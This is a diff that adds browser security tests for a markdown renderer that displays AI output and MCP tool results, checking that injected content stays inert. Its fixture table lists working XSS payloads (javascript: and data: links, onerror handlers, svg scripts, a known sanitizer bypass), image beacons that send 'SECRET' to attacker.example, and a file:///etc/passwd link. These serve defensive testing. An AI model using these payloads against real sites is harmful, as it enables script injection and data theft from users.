@@ -15,6 +15,7 @@ from __future__ import annotations
 import base64
 import json
 import random
+import re
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -177,3 +178,276 @@ def test_unclosed_fence_and_half_table_render_as_text_and_code_mid_stream(sessio
     session.page.evaluate("() => { window.openRenderer.append('-|--|\\n| 3 | 4 |\\n'); window.openRenderer.finish(); }")
     expect(page.locator("#open table")).to_have_count(2)
     expect(page.locator("#open table").last.locator("td")).to_have_text(["3", "4"])
+
+
+# --- SECURITY.md T-X*: nothing executes, nothing loads, links are safe --------------------------------
+
+# {F} is the foreign loopback host: a request there would be logged by the browser and by the server.
+# Scripts try both a dialog and a global flag, so success by either route would be seen.
+PAYLOADS = {
+    "T-X1 image": "Look: ![x]({F}/t1?d=SECRET) and ![y](https://attacker.example/p?d=SECRET)",
+    "T-X2 reference image": "Here ![a][r] it is.\n\n[r]: {F}/t2?d=SECRET",
+    "T-X3 javascript link": "[c](javascript:alert(1))",
+    "T-X3 mixed case": "[c](JaVaScRiPt:top.pwned=1)",
+    "T-X3 entity tab": "[c](java&#x09;script:alert(1))",
+    "T-X3 data link": "[c](data:text/html,<script>alert(1)</script>)",
+    "T-X3 vbscript": "[c](vbscript:msgbox(1))",
+    "T-X3 raw anchor": '<a href="javascript:top.pwned=1">c</a> and <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
+    "T-X4 img onerror": "<img src=x onerror=alert(1)> <img src={F}/t4 onerror=top.pwned=1>",
+    "T-X4 svg script": "<svg><script>top.pwned=1</script></svg> <svg onload=alert(1)><image href={F}/svgimg /></svg>",
+    "T-X4 iframe srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src={F}/frame></iframe>',
+    "T-X4 GHSA-chqj-j4fh-rw7m": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    "T-X4 math style": "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
+    "T-X4 script": "<script>top.pwned=1</script>\n\n<script src={F}/s.js></script>",
+    "T-X4 form": '<form action="{F}/form"><input name="q" value="SECRET"><button formaction="{F}/b">Go</button></form>',
+    "T-X4 styles that load": '<div style="background:url({F}/bg)">a</div><p style="--x:url({F}/v)">b</p>'
+                             '<style>@import "{F}/css"; body{background:url({F}/bg2)}</style><link rel=stylesheet href={F}/l.css>',
+    "T-X4 media and objects": '<video src={F}/v poster={F}/p></video><audio src={F}/a></audio><object data={F}/o></object>'
+                              '<embed src={F}/e><input type=image src={F}/i><img srcset="{F}/ss 1x">',
+    "T-X4 base and meta": '<base href="{F}/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">[rel](x.png)',
+    "T-X4 event attributes": '<details open ontoggle=alert(1)><summary onclick=alert(1)>s</summary></details>'
+                             '<p onmouseover="top.pwned=1" id="out" name="harness">hover</p>',
+    "T-X6 KaTeX-like input": "$$\\href{javascript:alert(1)}{x}$$ and $<img src=x onerror=alert(1)>$ "
+                             "and \\(\\text{<b onclick=alert(1)>x</b>}\\)",
+    "T-X8 links": "[ok](https://example.com/) <https://example.com/auto> www.example.com "
+                  '<a href="https://example.com/raw" target="_self" rel="opener">raw</a> [m](mailto:a@example.com)',
+}
+
+
+def payload_text(template: str, foreign: ForeignHost) -> str:
+    return template.replace("{F}", foreign.url)
+
+
+@pytest.fixture(params=["site CSP", "CSP off: the renderer alone"])
+def guarded(request: pytest.FixtureRequest, browser: Browser, site: str) -> Iterator[Session]:
+    """Every safety test runs twice: under the site's real CSP, and with the CSP bypassed so that the
+    renderer's own sanitizing is what is tested (the CSP would otherwise hide its mistakes)."""
+    s = Session(browser, site, bypass_csp=request.param.startswith("CSP off"))
+    yield s
+    s.context.close()
+
+
+def assert_nothing_happened(session: Session, foreign: ForeignHost, *ids: str) -> None:
+    session.page.wait_for_timeout(400)  # let any image error/load event or fetch happen
+    for element_id in ids:
+        assert session.call("audit", element_id) == [], element_id
+    assert session.page.evaluate("() => window.pwned") is None
+    assert session.dialogs == []
+    assert foreign.requests == []
+    assert session.foreign_requests() == []
+
+
+def test_the_checks_would_see_an_execution_and_a_foreign_request(browser: Browser, site: str, foreign: ForeignHost):
+    """Guards the safety tests: with the CSP off, unsanitized markup does run and does reach the host."""
+    s = Session(browser, site, bypass_csp=True)
+    s.page.evaluate("(url) => { document.getElementById('out').innerHTML = "
+                    "`<img src=${url}/probe onload='window.pwned=1'>`; }", foreign.url)
+    for _ in range(50):  # polled: a string predicate for wait_for_function would be CSP-blocked
+        if s.page.evaluate("() => window.pwned") == 1:
+            break
+        s.page.wait_for_timeout(100)
+    assert s.page.evaluate("() => window.pwned") == 1
+    assert "/probe" in foreign.requests
+    assert any(u.startswith(foreign.url) for u in s.foreign_requests())
+    s.context.close()
+
+
+@pytest.mark.parametrize("case", sorted(PAYLOADS))
+def test_payload_in_model_output_is_inert(guarded: Session, foreign: ForeignHost, case: str):
+    text = payload_text(PAYLOADS[case], foreign)
+    guarded.call("oneShot", text, "once")
+    # T-X5: streamed one character at a time, sanitized at every step, and at random splits.
+    guarded.call("stream", list(text), {"compareEachStep": False, "checkSurvival": False, "id": "chars"})
+    rng = random.Random(case)
+    for n in range(5):
+        cuts = [rng.randrange(1, len(text)) for _ in range(rng.randrange(1, 12))]
+        guarded.call("stream", splits(text, cuts), {"compareEachStep": False, "checkSurvival": False, "id": f"split{n}"})
+    assert_nothing_happened(guarded, foreign, "once", "chars", *(f"split{n}" for n in range(5)))
+
+
+@pytest.mark.parametrize("case", sorted(PAYLOADS))
+def test_payload_in_tool_results_is_inert(guarded: Session, foreign: ForeignHost, case: str):
+    """T-X7: the same payloads as MCP tool results, as text, as markdown and as an embedded resource."""
+    text = payload_text(PAYLOADS[case], foreign)
+    items = [{"type": "text", "text": text}, {"type": "resource", "resource": {"uri": "file:///x.md", "text": text}}]
+    guarded.call("tool", items, "as-text")
+    texts = guarded.page.locator("#as-text pre.tool-text")
+    expect(texts).to_have_count(2)
+    assert texts.all_text_contents() == [text, text]  # shown exactly, as text
+    guarded.call("tool", items, "as-markdown", {"textAs": "markdown"})
+    assert_nothing_happened(guarded, foreign, "as-text", "as-markdown")
+
+
+def test_remote_images_wait_behind_a_placeholder(session: Session, foreign: ForeignHost):
+    session.call("oneShot", f"T-X1 ![chart]({foreign.url}/t1?d=SECRET)\n\n![a][r]\n\n[r]: {foreign.url}/t2", "once")
+    button = session.page.get_by_role("button", name=f"Load image from {foreign.host}")
+    expect(button).to_have_count(2)
+    expect(session.page.locator("#once .md-image-placeholder").first).to_contain_text("chart")
+    session.page.wait_for_timeout(300)
+    assert foreign.requests == []
+
+
+def test_links_are_safe_and_open_in_a_new_tab(session: Session):
+    """T-X3, T-X8."""
+    session.call("oneShot", PAYLOADS["T-X8 links"] + "\n\n" + PAYLOADS["T-X3 javascript link"] + " "
+                 + PAYLOADS["T-X3 entity tab"] + " " + PAYLOADS["T-X3 data link"], "links")
+    links = session.page.locator("#links a")
+    hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
+    assert hrefs == ["https://example.com/", "https://example.com/auto", "http://www.example.com/",
+                     "https://example.com/raw", "mailto:a@example.com"]
+    for i in range(links.count()):
+        expect(links.nth(i)).to_have_attribute("target", "_blank")
+        expect(links.nth(i)).to_have_attribute("rel", "noopener noreferrer")
+    # The neutralised links keep their text, inert.
+    assert session.page.locator("#links").inner_text().count("c") >= 3
+
+
+def test_csp_header_is_sent_and_blocks_an_injected_inline_script(session: Session):
+    """T-X9: the second line of defence, checked on the same server that serves the app."""
+    response = session.page.request.get(session.site + "render.html")
+    csp = response.headers["content-security-policy"]
+    assert "script-src 'self' 'wasm-unsafe-eval'" in csp
+    session.page.evaluate("() => { const s = document.createElement('script'); s.textContent = 'window.pwned = 1';"
+                          " document.body.append(s); }")
+    session.page.wait_for_timeout(200)
+    assert session.page.evaluate("() => window.pwned") is None
+
+
+# --- images the user allows ---------------------------------------------------------------------------
+
+def test_allowing_a_host_loads_its_images_everywhere_and_only_then(session: Session, foreign: ForeignHost):
+    page = session.page
+    session.call("oneShot", f"![pic]({foreign.url}/pic.png)", "first")
+    session.call("streamOpen", [f"Also ![again]({foreign.url}/pic.png) and ", f"![other](http://localhost:9/x.png)"], "second")
+    page.wait_for_timeout(300)
+    assert foreign.requests == []
+    page.locator("#first").get_by_role("button", name=f"Load image from {foreign.host}").click()
+    for element_id in ("first", "second"):  # both renderers share the policy: both show the image
+        image = page.locator(f"#{element_id} img.md-image")
+        expect(image).to_have_attribute("src", re.compile(r"^blob:"))
+        expect(image).to_have_attribute("alt", "pic" if element_id == "first" else "again")
+        assert image.evaluate("(img) => img.decode().then(() => img.naturalWidth)") == 1
+    assert foreign.requests == ["/pic.png"]  # fetched once, by us, for both
+    assert page.evaluate("() => window.savedHosts") == [foreign.host]  # onChange: the app can persist it
+    # Another host stays behind its placeholder; and new text from the allowed host loads directly.
+    expect(page.get_by_role("button", name="Load image from localhost:9")).to_have_count(1)
+    session.call("oneShot", f"![later]({foreign.url}/pic.png)", "third")
+    expect(page.locator("#third img.md-image")).to_have_attribute("src", re.compile(r"^blob:"))
+    assert session.foreign_requests() == [f"{foreign.url}/pic.png"]
+
+
+def test_an_allowed_host_without_cors_shows_a_visible_failure_under_the_csp(session: Session, foreign: ForeignHost):
+    """Without CORS we cannot read the bytes; the direct fallback is then up to the CSP (img-src has no
+    remote hosts today), and the user sees why there is no image."""
+    session.call("oneShot", f"![pic]({foreign.url}/nocors.png)", "nocors")
+    session.page.get_by_role("button", name=f"Load image from {foreign.host}").click()
+    expect(session.page.locator("#nocors .md-image-note")).to_have_text(f"Could not load the image from {foreign.host}: pic")
+
+
+def test_data_images_show_only_when_their_bytes_match(session: Session):
+    png = base64.b64encode(PNG).decode()
+    svg = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').decode()
+    session.call("oneShot", f"![ok](data:image/png;base64,{png}) ![lie](data:image/jpeg;base64,{png}) "
+                            f"![svg](data:image/svg+xml;base64,{svg}) ![rel](pic.png)", "data")
+    page = session.page
+    expect(page.locator("#data img")).to_have_count(1)
+    expect(page.locator("#data img")).to_have_attribute("alt", "ok")
+    expect(page.locator("#data .md-image-note")).to_have_text(
+        ["Image not shown: lie", "Image not shown: svg", "Image not shown: rel"])
+    assert session.dialogs == []
+
+
+# --- tool results: media from their own bytes only ------------------------------------------------------
+
+def wav() -> bytes:
+    samples = b"\x00\x00" * 800
+    header = b"RIFF" + (36 + len(samples)).to_bytes(4, "little") + b"WAVEfmt " + (16).to_bytes(4, "little")
+    header += (1).to_bytes(2, "little") + (1).to_bytes(2, "little") + (8000).to_bytes(4, "little")
+    header += (16000).to_bytes(4, "little") + (2).to_bytes(2, "little") + (16).to_bytes(2, "little")
+    return header + b"data" + len(samples).to_bytes(4, "little") + samples
+
+
+def b64(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+def test_tool_media_is_shown_from_its_bytes_and_refused_when_they_lie(guarded: Session, foreign: ForeignHost):
+    """T-X10, through both MCP spellings of the MIME type."""
+    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="top.pwned=1"><image href="' + foreign.url.encode() + b'/s"/></svg>'
+    items = [
+        {"type": "image", "data": b64(PNG), "mimeType": "image/png"},
+        {"type": "image", "data": b64(PNG), "mime_type": "image/png"},
+        {"type": "image", "data": b64(svg), "mimeType": "image/svg+xml"},
+        {"type": "image", "data": b64(PNG), "mimeType": "image/jpeg"},
+        {"type": "image", "data": b64(b"<html><script>top.pwned=1</script>"), "mimeType": "image/png"},
+        {"type": "image", "data": "A" * (30 * 1024 * 1024), "mimeType": "image/png"},
+        {"type": "image", "data": "%%%not base64%%%", "mimeType": "image/png"},
+        {"type": "audio", "data": b64(wav()), "mimeType": "audio/wav"},
+        {"type": "audio", "data": b64(wav()), "mimeType": "audio/mpeg"},
+        {"type": "resource", "resource": {"uri": "file:///chart.png", "mimeType": "image/png", "blob": b64(PNG)}},
+        {"type": "resource", "resource": {"uri": "file:///data.bin", "mimeType": "application/octet-stream",
+                                          "blob": b64(b"\x00" * 2048)}},
+        {"type": "something-new", "data": "x"},
+    ]
+    guarded.call("tool", items, "media")
+    page = guarded.page
+    images = page.locator("#media img")
+    expect(images).to_have_count(3)  # the two honest PNGs and the PNG resource
+    for i in range(3):
+        expect(images.nth(i)).to_have_attribute("src", re.compile(r"^blob:"))
+        assert images.nth(i).evaluate("(img) => img.decode().then(() => img.naturalWidth)") == 1
+    audio = page.locator("#media audio")
+    expect(audio).to_have_count(1)
+    expect(audio).to_have_attribute("src", re.compile(r"^blob:"))
+    notes = page.locator("#media .tool-note").all_text_contents()
+    assert notes == [
+        "Image not shown: the bytes are not a supported image format (declared image/svg+xml)",
+        "Image not shown: declared image/jpeg but the bytes are image/png",
+        "Image not shown: the bytes are not a supported image format (declared image/png)",
+        "Image not shown: the data is too large (22.5 MB; the limit is 16.0 MB)",
+        "Image not shown: the data is not valid base64",
+        "Audio not shown: declared audio/mpeg but the bytes are audio/wav",
+        "Binary resource (application/octet-stream, 2.0 KB)",
+        "Unsupported content (something-new)",
+    ]
+    assert_nothing_happened(guarded, foreign, "media")
+
+
+def test_tool_resource_links_are_links_only_when_safe_and_never_fetched(guarded: Session, foreign: ForeignHost):
+    items = [
+        {"type": "resource_link", "uri": f"{foreign.url}/doc", "name": "doc", "title": "The doc", "description": "d"},
+        {"type": "resource_link", "uri": "javascript:top.pwned=1", "name": "js"},
+        {"type": "resource_link", "uri": "file:///etc/passwd", "name": "local"},
+        {"type": "resource_link", "uri": "data:text/html,<script>top.pwned=1</script>", "name": "data"},
+    ]
+    guarded.call("tool", items, "links")
+    links = guarded.page.locator("#links a")
+    expect(links).to_have_count(1)
+    expect(links).to_have_text("The doc")
+    expect(links).to_have_attribute("href", f"{foreign.url}/doc")
+    expect(guarded.page.locator("#links")).to_contain_text("file:///etc/passwd")
+    assert_nothing_happened(guarded, foreign, "links")
+
+
+# --- code blocks ----------------------------------------------------------------------------------------
+
+def test_code_is_highlighted_and_the_copy_button_copies_it(browser: Browser, site: str):
+    s = Session(browser, site)
+    s.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=origin(site))
+    code = 'def greet(name):\n    return f"<b>hi {name}</b>"  # not markup'
+    s.call("oneShot", f"Try:\n\n```python\n{code}\n```\n\n```unknown-lang\nplain <i>text</i>\n```\n")
+    page = s.page
+    block = page.locator("#oneshot .md-code").first
+    expect(block.locator(".md-code-language")).to_have_text("python")
+    expect(block.locator("code .hljs-keyword").first).to_have_text("def")
+    expect(block.locator("code .hljs-string")).to_contain_text("<b>hi {name}</b>")
+    expect(page.locator("#oneshot code b, #oneshot code i")).to_have_count(0)  # code is text, never markup
+    button = block.get_by_role("button", name="Copy code")
+    button.click()
+    expect(block.get_by_role("button", name="Copied")).to_be_visible()
+    assert page.evaluate("() => navigator.clipboard.readText()") == code
+    expect(block.get_by_role("button", name="Copy code")).to_be_visible(timeout=5000)  # and it resets
+    plain = page.locator("#oneshot .md-code").nth(1)
+    expect(plain.locator("code")).to_have_text("plain <i>text</i>\n")
+    expect(plain.locator("code span")).to_have_count(0)
+    s.context.close()
